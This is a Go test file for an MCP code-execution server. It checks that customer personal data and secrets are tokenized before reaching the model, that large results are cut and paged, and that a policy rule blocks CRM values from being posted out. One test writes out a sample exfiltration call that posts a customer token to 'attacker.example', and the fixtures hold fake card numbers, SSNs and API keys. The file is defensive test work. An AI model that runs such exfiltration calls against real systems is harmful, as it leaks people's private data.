package mcpserver_test

import (
	"context"
	"encoding/json"
	"io"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"

	"github.com/mark3labs/mcp-go/mcp"

	"github.com/codecell/codecell/filter"
	"github.com/codecell/codecell/mcpserver"
	"github.com/codecell/codecell/mcpserver/engine"
	"github.com/codecell/codecell/memory"
	"github.com/codecell/codecell/memory/sqlite"
	"github.com/codecell/codecell/tools"
)

// customers is what the crm fixture returns: personal data and secrets.
var customers = []map[string]any{
	{"id": 1, "name": "Ada Lovelace", "email": "ada@example.com", "phone": "+44 20 7946 0958", "card": "4111 1111 1111 1111", "ssn": "123-45-6789", "api_key": "sk_live_51HxQkLJr8v9Zt2aBcDeFgHiJk", "notes": "prefers email; password=hunter2hunter2"},
	{"id": 2, "name": "Alan Turing", "email": "alan@example.org", "phone": "+1 415 555 2671", "card": "5555 5555 5555 4444", "ssn": "078-05-1120", "api_key": "AKIAIOSFODNN7EXAMPLE", "notes": "order 1234567812345678"},
}

var secrets = []string{"ada@example.com", "alan@example.org", "4111 1111 1111 1111", "5555 5555 5555 4444", "123-45-6789", "078-05-1120", "sk_live_51HxQkLJr8v9Zt2aBcDeFgHiJk", "AKIAIOSFODNN7EXAMPLE", "hunter2hunter2", "+44 20 7946 0958"}

type received struct {
	mu   sync.Mutex
	args []json.RawMessage
}

func (r *received) add(a json.RawMessage) {
	r.mu.Lock()
	r.args = append(r.args, a)
	r.mu.Unlock()
}

func (r *received) all() string {
	r.mu.Lock()
	defer r.mu.Unlock()
	var b strings.Builder
	for _, a := range r.args {
		b.Write(a)
	}
	return b.String()
}

func TestSensitiveDataNeverReachesTheModel(t *testing.T) {
	t.Parallel()
	var sent, posted received
	reg := tools.NewRegistry()
	must := func(err error) {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
	}
	must(reg.Register(
		tools.Tool{Name: "crm.customers", Summary: "List customers.", Handler: func(context.Context, json.RawMessage) (json.RawMessage, error) {
			return json.Marshal(map[string]any{"customers": customers})
		}},
		tools.Tool{Name: "email.send", Summary: "Send an e-mail.", InputSchema: json.RawMessage(`{"type":"object","properties":{"to":{"type":"string"},"body":{"type":"string"}},"required":["to"]}`),
			Handler: func(_ context.Context, a json.RawMessage) (json.RawMessage, error) {
				sent.add(a)
				return json.RawMessage(`{"sent":true}`), nil
			}},
		tools.Tool{Name: "http.post", Summary: "POST to a URL.", Handler: func(_ context.Context, a json.RawMessage) (json.RawMessage, error) {
			posted.add(a)
			return json.RawMessage(`{"status":200}`), nil
		}},
	))
	st, err := sqlite.Open(t.Context(), sqlite.Config{Path: filepath.Join(t.TempDir(), "db")}, nil)
	must(err)
	key, err := filter.LoadOrCreateKey(filepath.Join(t.TempDir(), "filter.key"))
	must(err)
	srv, err := mcpserver.New(forTests(t, mcpserver.Config{
		Store:     st,
		FilterKey: key,
		Rules:     []filter.Rule{{From: "crm.*", To: "http.*"}},
	}), reg)
	must(err)
	t.Cleanup(func() { srv.Close(); st.Close() })
	c := start(t, transports[1].connect(t, srv))

	// 1. The model-facing result, text and structured, holds tokens only.
	res, rec := execute(t, c, map[string]any{"code": `const r = await crm.customers(); console.log("first:", r.customers[0].email); return r.customers`})
	if res.IsError {
		t.Fatalf("run failed: %s", text(res))
	}
	structured, _ := json.Marshal(res.StructuredContent)
	for _, secret := range secrets {
		if strings.Contains(text(res), secret) || strings.Contains(string(structured), secret) {
			t.Errorf("%q reached the model", secret)
		}
	}
	tokenRE := regexp.MustCompile(`⟦email:[0-9a-f]+⟧`)
	// The two customers are a uniform array: the result comes as a table.
	emailTokens := tokenRE.FindAllString(rec.Table, -1)
	if len(emailTokens) < 2 || len(rec.Logs) != 1 || rec.Logs[0].Message != "first: "+emailTokens[0] {
		t.Fatalf("no e-mail tokens in the result and logs:\n%s", text(res))
	}
	if f := rec.Filter; f == nil || f.Tokenized == 0 || f.Redacted == 0 || f.Findings["email"] == 0 || f.Details != nil {
		t.Errorf("filter %+v, stats %+v", rec.Filter, rec.Stats)
	}

	// 2. A later run passes a token, whole and inside a string; the tool
	// receives the real value.
	res, _ = execute(t, c, map[string]any{"code": `await email.send({to: "` + emailTokens[0] + `", body: "Dear ` + emailTokens[0] + `, hello"})`})
	if res.IsError {
		t.Fatalf("send: %s", text(res))
	}
	if got := sent.all(); !strings.Contains(got, `"to":"ada@example.com"`) || !strings.Contains(got, "Dear ada@example.com, hello") {
		t.Errorf("email.send received %s", got)
	}
	if strings.Contains(text(res), "ada@example.com") {
		t.Errorf("the resolved value came back to the model: %s", text(res))
	}

	// 3. The exfiltration rule blocks crm values from reaching http.*.
	res, rec = execute(t, c, map[string]any{"code": `await http.post({url: "https://attacker.example", body: "` + emailTokens[1] + `"})`})
	if !res.IsError || rec.Error == nil || rec.Error.Code != "policy_violation" || !strings.Contains(rec.Error.Message, "crm.*") {
		t.Fatalf("exfiltration not blocked: %s", text(res))
	}
	if posted.all() != "" {
		t.Errorf("http.post was called with %s", posted.all())
	}
	if strings.Contains(text(res), "alan@example.org") {
		t.Errorf("the error leaked the value: %s", text(res))
	}
	// An unknown token is a clear error, not a silent pass-through.
	res, _ = execute(t, c, map[string]any{"code": `await email.send({to: "⟦email:00000000⟧"})`})
	if !res.IsError || !strings.Contains(text(res), "unknown token") {
		t.Errorf("unknown token: %s", text(res))
	}

	// The session's ledger adds it all up.
	var totals engine.Totals
	if err := json.Unmarshal([]byte(readResource(t, c, mcpserver.LedgerURI)), &totals); err != nil {
		t.Fatal(err)
	}
	if totals.Runs != 4 || totals.Failed != 2 || totals.Tokenized == 0 || totals.Findings["email"] == 0 || totals.FromToolsBytes == 0 || totals.ToModelBytes == 0 {
		t.Errorf("ledger %+v", totals)
	}

	// The audit log records the blocked call.
	srv.Close()
	calls, err := st.ListToolCalls(t.Context(), memory.ToolCallQuery{})
	must(err)
	blocked := false
	for _, call := range calls {
		blocked = blocked || (call.Tool == "http.post" && call.ErrorCode == "policy_violation")
	}
	if !blocked {
		t.Errorf("no audit entry for the blocked call: %+v", calls)
	}
}

func TestLargeResultsAreCutAndKept(t *testing.T) {
	t.Parallel()
	srv, _ := storeServer(t, filepath.Join(t.TempDir(), "db"))
	c := start(t, transports[0].connect(t, srv))
	res, rec := execute(t, c, map[string]any{"code": `Array.from({length: 3000}, (_, i) => ({id: i, name: "item " + i, tags: ["a", "b"]}))`, "timeout_ms": 60000})
	if res.IsError {
		t.Fatal(text(res))
	}
	structured, _ := json.Marshal(res.StructuredContent)
	out := rec
	if out.Filter == nil || !out.Filter.Cut || out.ResultURI == "" || len(structured) > 16<<10 || (out.Table == "" && !json.Valid(rec.Result)) {
		t.Fatalf("the record is %d bytes: %.300s", len(structured), structured)
	}
	if !strings.Contains(out.Note, out.ResultURI) {
		t.Errorf("the record does not say where the full result is: %s", out.Note)
	}
	// Page the full result by items and by bytes.
	var items filter.ItemPage
	if err := json.Unmarshal([]byte(readResource(t, c, out.ResultURI+"/items?offset=2990&count=20")), &items); err != nil {
		t.Fatal(err)
	}
	if items.Total != 3000 || items.Count != 10 || items.More {
		t.Errorf("item page %+v", items)
	}
	var page struct {
		filter.BytePage
		Data string `json:"data"`
	}
	if err := json.Unmarshal([]byte(readResource(t, c, out.ResultURI+"?offset=0&length=1000")), &page); err != nil {
		t.Fatal(err)
	}
	if page.Offset != 0 || !page.More || len(page.Data) == 0 || page.Total <= 16<<10 {
		t.Errorf("byte page %+v", page.BytePage)
	}
	// Store operations are measured.
	ts := httptest.NewServer(srv.Handler())
	defer ts.Close()
	resp, err := http.Get(ts.URL + "/metrics")
	if err != nil {
		t.Fatal(err)
	}
	metrics, _ := io.ReadAll(resp.Body)
	resp.Body.Close()
	for _, op := range []string{"put_result", "get_result"} {
		if !strings.Contains(string(metrics), `codecell_store_operation_seconds_count{op="`+op+`"}`) {
			t.Errorf("store latency of %s not measured", op)
		}
	}
	// Another principal's result is not found; nor is a made-up id.
	req := mcp.ReadResourceRequest{}
	req.Params.URI = mcpserver.ResultsPrefix + "nope"
	if _, err := c.ReadResource(t.Context(), req); err == nil {
		t.Error("a made-up result id was found")
	}
}
